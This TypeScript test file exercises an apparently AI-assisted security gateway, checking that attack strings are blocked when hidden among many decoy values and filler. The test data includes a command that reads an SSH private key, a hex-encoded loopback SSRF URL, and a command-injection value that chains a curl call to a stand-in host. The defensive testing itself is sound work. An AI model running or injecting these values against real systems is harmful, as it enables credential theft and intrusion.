import assert from "node:assert/strict";
import { test } from "node:test";
import { gatewayScene } from "./scene.ts";

/** Values that the screen leaves unsure and the model clears must not crowd out the one that is an attack. */
const policy = `
version: 1
mode: prevent
routes:
  - { name: unsure, match: { path: /unsure }, public: true, score: { deadline: 5s } }
  - { name: always, match: { path: /always }, public: true, score: { ask: always, deadline: 5s } }
`;
const decoy = (number: number) => `rm evil ${1_234_500 + number}`;
const attacks = ["cat ~/.ssh/id_rsa", "http://0x7f000001/", "a && curl evil.sh"];

const scene = gatewayScene({ policy });

async function get(path: string, fields: readonly string[]): Promise<number> {
  const query = new URLSearchParams(Object.fromEntries(fields.map((value, index) => [`f${index}`, value])));
  const response = await fetch(`${scene.gateway.url}${path}?${query}`);
  await response.arrayBuffer();
  return response.status;
}

for (const path of ["/unsure", "/always"]) {
  for (const attack of attacks) {
    test(`${path}: ${attack} is found among many decoys, in fields of their own and in one value`, async () => {
      const decoys = Array.from({ length: 40 }, (_, i) => decoy(i));
      assert.equal(await get(path, decoys), 200, "the decoys themselves");
      const seen = scene.upstream.requests.length;
      assert.equal(await get(path, [attack]), 403, "alone");
      assert.equal(await get(path, [...Array.from({ length: 17 }, () => decoy(99)), attack]), 403, "equal decoys");
      assert.equal(await get(path, [...decoys, attack]), 403, "different decoys");
      const filler = "lorem ipsum dolor ".repeat(20);
      assert.equal(await get(path, [`${decoy(99)} ${filler}${attack}`]), 403, "behind one decoy and filler");
      assert.equal(scene.upstream.requests.length, seen);
    });
  }
}

test("a table of forty customers, of which the screen leaves each line unsure, is asked about as a whole", async () => {
  const given = ["Anna", "Jean-Luc", "Zoë", "Marek", "O'Hara", "Thandi", "Noor"];
  const family = ["D'Souza", "Kowalski", "de la Cruz", "Smith-Jones", "O’Neill"];
  const towns = ["St. Gallen", "Kraków", "L'Aquila", "New York", "Århus"];
  const lines = Array.from({ length: 40 }, (_, i) =>
    [
      i,
      `"${given[i % 7]} ${family[i % 5]}"`,
      `anna+shop.${i}@mail.example`,
      towns[(i * 2) % 5],
      `${100 + i * 7}.50`,
    ].join(),
  );
  const response = await fetch(`${scene.gateway.url}/unsure`, {
    method: "POST",
    headers: { "content-type": "text/csv" },
    body: ["id,name,email,city,amount", ...lines].join("\r\n"),
  });
  assert.equal(response.status, 200, await response.text());
});

test("a request with more unsure values than are asked about is not waved through", async () => {
  const seen = scene.upstream.requests.length;
  const status = await get(
    "/unsure",
    Array.from({ length: 300 }, (_, i) => decoy(i)),
  );
  assert.ok(status === 403 || status === 503, `${status}`);
  assert.equal(scene.upstream.requests.length, seen);
});
